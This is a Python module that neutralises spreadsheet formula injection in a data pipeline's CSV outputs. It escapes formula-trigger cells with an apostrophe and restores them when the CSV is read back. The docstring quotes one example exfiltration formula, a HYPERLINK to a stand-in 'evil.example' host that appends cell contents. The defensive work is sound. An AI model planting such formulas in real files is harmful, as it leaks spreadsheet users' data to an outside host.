"""Formula cells in CSV outputs: neutralised for spreadsheets, restored for the next hop.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` is text to the lake but
a live formula to Excel, LibreOffice or Google Sheets when someone opens a CSV of a zone
(OWASP "CSV injection"). Every CSV the pipeline writes is meant to be opened that way, so
a value that a spreadsheet would evaluate - one starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return, and not a plain number such as ``-5`` - is written with a
leading apostrophe, which makes the spreadsheet show it as text.

The escape is exact, so no data is lost on the way to Parquet: a value that already
starts with apostrophes followed by a trigger gets one more, and the hop that reads a
pipeline-written CSV removes exactly one apostrophe from every escaped value. So
``=1+1`` is ``'=1+1`` in staged and ``=1+1`` again in curated, and ``'=x`` survives as
``'=x``.

Only Arrow kernels with options are used, never Python scalars as arguments: converting one
makes pyarrow import pandas, which the Lambda's cold start cannot afford.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from zone_consumer.dedupe import true_mask

TRIGGERS = r"=+\-@\t\r"
NEEDS_ESCAPE = rf"^'*[{TRIGGERS}]"
ESCAPED = rf"^'+[{TRIGGERS}]"
NUMBER = r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"
FIRST_BYTES = np.frombuffer(b"=+-@\t\r'", dtype=np.uint8)


_STARTS_LIKE_A_TRIGGER = np.zeros(256, dtype=bool)
_STARTS_LIKE_A_TRIGGER[FIRST_BYTES] = True
_NEVER_A_NUMBER = np.zeros(256, dtype=bool)  # a value starting so is a formula: no number starts with these
_NEVER_A_NUMBER[np.frombuffer(b"=@\t\r", dtype=np.uint8)] = True
_SIGN = np.zeros(256, dtype=bool)  # a formula unless the whole value is a number (-5, +1e3)
_SIGN[np.frombuffer(b"+-", dtype=np.uint8)] = True
APOSTROPHE = ord("'")


def _trigger_rows(column: pa.Array) -> tuple[np.ndarray, np.ndarray]:
    """The values whose first byte may start a formula (or an escape), and those first bytes: no regex.

    Most columns have none; a numeric column with negative numbers has many, and only those
    values are then looked at with the regular expressions.
    """
    offsets_buffer, data_buffer = column.buffers()[1:3]
    if data_buffer is None or len(column) == 0:
        return np.zeros(0, dtype=np.int64), np.zeros(0, dtype=np.uint8)
    width = np.int64 if pa.types.is_large_string(column.type) else np.int32
    offsets = np.frombuffer(offsets_buffer, dtype=width)[column.offset : column.offset + len(column) + 1]
    data = np.frombuffer(data_buffer, dtype=np.uint8)
    nonempty = np.flatnonzero(offsets[1:] > offsets[:-1])
    first = data[offsets[:-1][nonempty]]
    triggered = _STARTS_LIKE_A_TRIGGER[first]
    rows, first = nonempty[triggered], first[triggered]
    return rows, first


def _rows_matching(column: pa.Array, rows: np.ndarray, pattern: str, matching: bool = True) -> np.ndarray:
    """Of `rows`, those whose value matches `pattern` (or, with `matching=False`, does not): a regex on those only."""
    if not rows.size:
        return rows
    subset = column.take(pa.Array.from_buffers(pa.int64(), len(rows), [None, pa.py_buffer(rows.astype(np.int64))]))
    hit = true_mask(_mask(subset, pattern))
    return rows[hit if matching else ~hit]


def _selected(rows: np.ndarray, n: int) -> pa.Array:
    mask = np.zeros(n, dtype=bool)
    mask[rows] = True
    return pa.Array.from_buffers(pa.bool_(), n, [None, pa.py_buffer(np.packbits(mask, bitorder="little"))])


def _mask(column: pa.Array, pattern: str) -> pa.Array:
    """Null where the value is null: `if_else` then keeps the null (no Python scalars: see below)."""
    return pc.match_substring_regex(column, pattern)


def _map_text_columns(batch: pa.RecordBatch, convert: Callable[[pa.Array], pa.Array]) -> pa.RecordBatch:
    columns = list(batch.columns)
    changed = False
    for index, column in enumerate(columns):
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            converted = convert(column)
            if converted is not column:
                columns[index], changed = converted, True
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema) if changed else batch


def _neutralise_column(column: pa.Array) -> pa.Array:
    rows, first = _trigger_rows(column)
    if not rows.size:
        return column
    escape = np.concatenate(
        [
            rows[_NEVER_A_NUMBER[first]],  # =, @, tab, CR: what NEEDS_ESCAPE matches and NUMBER cannot
            _rows_matching(column, rows[_SIGN[first]], f"^{NUMBER}$", matching=False),
            _rows_matching(column, rows[first == APOSTROPHE], NEEDS_ESCAPE),  # no number starts with '
        ]
    )
    if not escape.size:
        return column
    escaped = pc.replace_substring_regex(column, "^", "'", max_replacements=1)
    return pc.if_else(_selected(escape, len(column)), escaped, column)


def _restore_column(column: pa.Array) -> pa.Array:
    rows, first = _trigger_rows(column)
    escaped = rows[first == APOSTROPHE]  # only an apostrophe starts an escaped value
    if not escaped.size:
        return column
    escaped = _rows_matching(column, escaped, ESCAPED)
    escaped = _rows_matching(column, escaped, f"^'{NUMBER}$", matching=False)
    if not escaped.size:
        return column
    return pc.if_else(_selected(escaped, len(column)), pc.utf8_slice_codeunits(column, 1), column)


def neutralise_formulas(batch: pa.RecordBatch) -> pa.RecordBatch:
    """Prefix an apostrophe to every text value a spreadsheet would run as a formula."""
    return _map_text_columns(batch, _neutralise_column)


def restore_formulas(batch: pa.RecordBatch) -> pa.RecordBatch:
    """Undo :func:`neutralise_formulas` (for the hop that reads a pipeline-written CSV)."""
    return _map_text_columns(batch, _restore_column)
